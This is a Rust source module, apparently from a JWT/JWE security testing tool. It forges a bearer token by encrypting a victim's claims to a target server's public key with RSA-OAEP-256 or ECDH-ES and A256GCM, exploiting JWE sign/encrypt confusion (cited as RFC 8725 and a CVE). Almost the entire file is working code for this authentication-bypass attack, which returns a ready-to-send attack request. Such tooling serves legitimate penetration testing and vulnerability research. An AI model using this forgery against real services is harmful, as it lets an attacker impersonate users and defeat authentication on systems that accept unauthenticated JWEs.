//! JWE sign/encrypt confusion: the victim's claims encrypted to the target's *public* key (RSA-OAEP-256
//! or ECDH-ES, A256GCM). Anyone can do this, so a target that accepts it trusts unauthenticated claims
//! (RFC 8725 §2.3, §3.12; CVE-2026-29000).

use aws_lc_rs::aead::{AES_256_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
use aws_lc_rs::agreement::{
    ECDH_P256, ECDH_P384, EphemeralPrivateKey, UnparsedPublicKey, agree_ephemeral,
};
use aws_lc_rs::digest::{SHA256, digest};
use aws_lc_rs::rsa::{OAEP_SHA256_MGF1SHA256, OaepPublicEncryptingKey, PublicEncryptingKey};
use serde_json::{Map, Value, json};

use super::context::MutationContext;
use super::types::{AttackRequest, MutationError};
use super::util::json_text;
use crate::token::b64;
use crate::token::keys::{Curve, PublicKey, PublicParams};

type Outcome = Result<AttackRequest, MutationError>;

fn failed(what: &str) -> MutationError {
    MutationError::NotApplicable(format!("JWE {what} failed"))
}

fn random<const N: usize>() -> Result<[u8; N], MutationError> {
    let mut bytes = [0u8; N];
    aws_lc_rs::rand::fill(&mut bytes).map_err(|_| failed("random source"))?;
    Ok(bytes)
}

/// Concat KDF (NIST SP 800-56A, RFC 7518 §4.6.2) for direct ECDH-ES with A256GCM: one SHA-256 round.
pub(crate) fn concat_kdf_a256gcm(shared: &[u8]) -> Vec<u8> {
    let mut input = Vec::new();
    input.extend_from_slice(&1u32.to_be_bytes());
    input.extend_from_slice(shared);
    input.extend_from_slice(&7u32.to_be_bytes());
    input.extend_from_slice(b"A256GCM");
    input.extend_from_slice(&0u32.to_be_bytes());
    input.extend_from_slice(&0u32.to_be_bytes());
    input.extend_from_slice(&256u32.to_be_bytes());
    digest(&SHA256, &input).as_ref().to_vec()
}

/// The key-management part of a JWE: protected header, encrypted key, content-encryption key.
struct KeyManagement {
    header: Map<String, Value>,
    encrypted_key: Vec<u8>,
    cek: Vec<u8>,
}

/// Key management for the target's key type.
fn key_management(target: &PublicKey) -> Result<KeyManagement, MutationError> {
    let mut header = Map::new();
    match &target.params {
        PublicParams::Rsa { .. } => {
            let cek = random::<32>()?.to_vec();
            let public =
                PublicEncryptingKey::from_der(&target.spki_der()).map_err(|_| failed("RSA key"))?;
            let oaep = OaepPublicEncryptingKey::new(public).map_err(|_| failed("RSA key"))?;
            let mut out = vec![0u8; oaep.ciphertext_size()];
            let encrypted = oaep
                .encrypt(&OAEP_SHA256_MGF1SHA256, &cek, &mut out, None)
                .map_err(|_| failed("RSA-OAEP"))?;
            let encrypted = encrypted.to_vec();
            header.insert("alg".into(), "RSA-OAEP-256".into());
            header.insert("enc".into(), "A256GCM".into());
            Ok(KeyManagement {
                header,
                encrypted_key: encrypted,
                cek,
            })
        }
        PublicParams::Ec { curve, .. } => {
            let algorithm = if *curve == Curve::P384 {
                &ECDH_P384
            } else {
                &ECDH_P256
            };
            let rng = aws_lc_rs::rand::SystemRandom::new();
            let ephemeral =
                EphemeralPrivateKey::generate(algorithm, &rng).map_err(|_| failed("ECDH key"))?;
            let epk_point = ephemeral
                .compute_public_key()
                .map_err(|_| failed("ECDH key"))?
                .as_ref()
                .to_vec();
            let len = curve.coordinate_len();
            let (x, y) = (&epk_point[1..1 + len], &epk_point[1 + len..]);
            let cek = agree_ephemeral(
                ephemeral,
                UnparsedPublicKey::new(algorithm, target.raw()),
                failed("ECDH agreement"),
                |shared| Ok(concat_kdf_a256gcm(shared)),
            )?;
            header.insert("alg".into(), "ECDH-ES".into());
            header.insert("enc".into(), "A256GCM".into());
            header.insert(
                "epk".into(),
                json!({"kty": "EC", "crv": curve.jwk_name(), "x": b64::encode(x), "y": b64::encode(y)}),
            );
            Ok(KeyManagement {
                header,
                encrypted_key: Vec::new(),
                cek,
            })
        }
        PublicParams::Ed25519 { .. } => Err(MutationError::NotApplicable(
            "an Ed25519 key cannot receive JWE key agreement (needs RSA or EC)".into(),
        )),
    }
}

/// The victim's claims as a compact JWE encrypted to the target's public key.
pub(super) fn jwe_encrypted_to_public_key(ctx: &MutationContext) -> Outcome {
    let target = ctx.target_public()?;
    let KeyManagement {
        mut header,
        encrypted_key,
        cek,
    } = key_management(target)?;
    if let Some(kid) = &target.kid {
        header.insert("kid".into(), kid.clone().into());
    }
    let protected = b64::encode(json_text(&header).as_bytes());
    let iv = random::<12>()?;
    let key = LessSafeKey::new(UnboundKey::new(&AES_256_GCM, &cek).map_err(|_| failed("AES key"))?);
    let mut body = json_text(&ctx.claims()).into_bytes();
    let tag = key
        .seal_in_place_separate_tag(
            Nonce::assume_unique_for_key(iv),
            Aad::from(protected.as_bytes()),
            &mut body,
        )
        .map_err(|_| failed("AES-GCM"))?;
    Ok(AttackRequest::bearer(format!(
        "{protected}.{}.{}.{}.{}",
        b64::encode(&encrypted_key),
        b64::encode(&iv),
        b64::encode(&body),
        b64::encode(tag.as_ref())
    )))
}
